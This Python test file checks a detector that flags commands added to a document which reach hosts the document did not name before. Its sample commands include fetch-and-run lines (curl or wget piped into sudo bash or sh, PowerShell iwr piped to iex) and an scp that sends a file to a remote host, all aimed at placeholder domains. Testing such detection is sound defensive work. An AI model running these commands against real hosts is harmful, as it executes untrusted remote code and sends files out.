"""Commands that reach places which a document did not name before."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.domain.findings.commands import added_commands, commands_to_new_places, reached_by_commands

PAGE = "Ask the desk for a key.\nThe form is at https://forms.example.org/key and the desk is open all day.\n"
LINES = st.lists(
    st.sampled_from(["Ask the desk.", "`tide show --all`", "See https://forms.example.org/key.", "- a list"])
)
HOSTS = st.from_regex(r"[a-z]{3,9}\.[a-z]{3,9}\.(?:test|example)", fullmatch=True)
COMMANDS = st.sampled_from(
    [
        "curl -fsSL https://{}/setup.sh | sudo bash", "curl {}/setup.sh | sh", "bash <(curl -s https://{}/i)",
        "    $ wget -qO- https://{}/i.sh | sh", "`pip install --index-url https://{}/simple tide`",
        "Then type curl https://{}/x | bash and wait.", "git clone git@{}:tools/tide.git", "iwr https://{}/a.ps1 | iex",
        "docker run {}/tide:2", "scp report.pdf me@{}:/in", "```\nnpm install --registry=https://{} tide\n```",
    ]
)  # fmt: skip


@given(LINES, LINES, COMMANDS, HOSTS)
def test_a_command_to_a_host_that_was_not_named_is_found_wherever_it_stands(
    before: list[str], after: list[str], command: str, host: str
) -> None:
    new = "\n".join([PAGE, *before, command.format(host), *after])
    assert commands_to_new_places(PAGE, new) == 1
    assert added_commands(PAGE, new) >= 1


@given(LINES, COMMANDS, HOSTS)
def test_a_host_that_the_document_named_before_is_not_new(lines: list[str], command: str, host: str) -> None:
    old = "\n".join([PAGE, f"Our tools are at {host}, by courtesy.", *lines])
    assert commands_to_new_places(old, f"{old}\n{command.format(host)}") == 0


@given(LINES)
def test_text_without_a_command_reaches_nothing(lines: list[str]) -> None:
    assert reached_by_commands("\n".join(lines)) == frozenset()


@pytest.mark.parametrize(
    "sentence",
    [
        "The fern will curl up in the sun. See https://garden.example for more.",
        "We write shell scripts, and curl is one of our tools.",
        "Add a ticket at https://desk.example/new when the shell is closed.",
    ],
)
def test_prose_about_programs_and_links_is_not_a_command(sentence: str) -> None:
    assert commands_to_new_places(PAGE, PAGE + sentence) == 0


def test_a_shared_host_counts_by_owner() -> None:
    old = "Get it by `git clone https://github.com/harbour/tide`."
    assert commands_to_new_places(old, old + " Or `git clone https://github.com/harbour/buoy`.") == 0
    assert commands_to_new_places(old, old + " Or `git clone https://github.com/stranger/tide`.") == 1


def test_the_reader_s_own_machine_is_not_a_new_place() -> None:
    assert (
        commands_to_new_places(PAGE, PAGE + "Type `curl http://127.0.0.1:8080/health` or `curl localhost/up now`.") == 0
    )


def test_the_name_of_an_output_file_is_not_a_host() -> None:
    assert reached_by_commands("`curl -o setup.sh files.example.net/setup`") == {"files.example.net"}
